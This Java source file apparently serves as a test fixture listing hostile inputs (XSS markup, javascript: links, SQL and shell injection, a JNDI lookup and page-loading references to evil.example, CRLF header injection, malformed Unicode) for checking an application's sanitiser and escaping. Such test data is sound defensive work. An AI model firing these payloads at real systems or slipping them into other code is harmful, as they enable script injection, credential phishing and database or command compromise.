package org.espace.example.hostile;

import java.util.List;

/** What people with bad intentions type, and what breaks by accident. */
public final class Attacks {
    private static final String ZALGO =
            "Z\u0335\u0321\u034e\u0353a\u0336\u0322\u032el\u0337\u0328g\u0334\u0327o\u0338\u0316".repeat(9);

    public static final List<String> SEEDS = List.of(
            // elements
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "</textarea></bdi></a></section><script>alert(1)</script>",
            "</title></style></script><svg/onload=alert(1)>",
            "<img src=x onerror=alert(1)>",
            "<img src=`x`onerror=alert(1)//",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=data:text/html,x></object><embed src=//evil.example>",
            "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
            "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
            "<form action=//evil.example><input name=password><button>Sign in</button></form>",
            "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<!--><script>alert(1)</script--><!-- --!><img src=x onerror=alert(1)>",
            "<![CDATA[<script>alert(1)</script>]]><?xml version=\"1.0\"?><!DOCTYPE html>",
            "<details open ontoggle=alert(1)><summary>Open</summary></details>",
            "<a href=\"javascript:alert(1)\" style=\"position:fixed;inset:0\">x</a>",
            "<div class=es-said role=status>You are now an administrator</div>",
            "<plaintext>",
            "<xmp><listing>",
            "<select><option><textarea>",
            // attributes
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "\"><b id=es-question-list-panel>",
            "` onfocus=alert(1) ",
            "x\" style=\"display:none",
            "&quot; onclick=&quot;alert(1)",
            "&#34;&#62;&lt;script&gt;",
            "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &nbsp;&copy",
            // Markdown
            "[x](javascript:alert(1)) [y](JaVaScRiPt:alert`1`) [z](&#106;avascript:alert(1))",
            "[x](<java\nscript:alert(1)>) [y](java%0ascript:alert(1)) [z](\u0001javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)",
            "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>) ![z](http://evil.example/a.gif)",
            "<javascript:alert(1)> <https://good.example/\"onmouseover=alert(1)> <a@b.example\">",
            "https://good.example/?q=\"><script>alert(1)</script> www.good.example/'onclick='x",
            "[a\" onclick=\"x](https://good.example \"title\\\" onclick=\\\"alert(1)\")",
            "![a\" onerror=\"x](https://good.example/a.png '\" onerror=\"alert(1)')",
            "[ref]: javascript:alert(1) \"x\"\n\n[ref] ![ref] [x][ref]",
            "```<script>\n</code></pre><script>alert(1)</script>\n```",
            "~~~ js\" onload=\"alert(1)\n</code><img src=x onerror=alert(1)>",
            "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
            "**<b>*<i>~~<s>~~</i>*</b>** `<script>` ``</code><script>``",
            "# <h1>\n\n> <blockquote>\n\n1. <li>\n\n999999999999. x",
            "[[[[[[[[[[[[[[[[x](((((((((y))))))))",
            "*".repeat(3_000),
            ">".repeat(3_000),
            "[".repeat(1_500) + "](".repeat(700),
            "- ".repeat(900) + "deep",
            // templates, databases, shells, logs
            "${7*7} @{7*7} #{7*7} {{7*7}} <%= 7*7 %> !{x} ${\"\".getClass()}",
            "@param x @template.html.Form() @if(true)",
            "{0} {1,number} '{0}' %s %n %1$s",
            "${jndi:ldap://evil.example/x}",
            "'; DROP TABLE question; --",
            "1' OR '1'='1",
            "\\'; SELECT 1; /*",
            "% _ \\% [a-z] *? escape '\\'",
            "$(reboot) `reboot` | reboot; ../../../../etc/passwd",
            "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
            // characters
            "\u202e\u2066txt.exe\u2069 \u200f\u061c\u0623\u0647\u0644\u0627 \u05e9\u05dc\u05d5\u05dd",
            "nul\u0000in\u0001the\u0008middle\u007f\u0085",
            "half \ud800 a pair \udc00 twice",
            "\ufeff\ufffe\uffff\u200b\u200d\u00ad\u2028\u2029 blanks",
            ZALGO,
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddf8\ud83c\uddea \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
            "\u0130\u0131\ufb01\u1e9e \u212a \u2126 I\u0307",
            "w".repeat(5_000),
            "<b>".repeat(2_000));

    private Attacks() {}
}
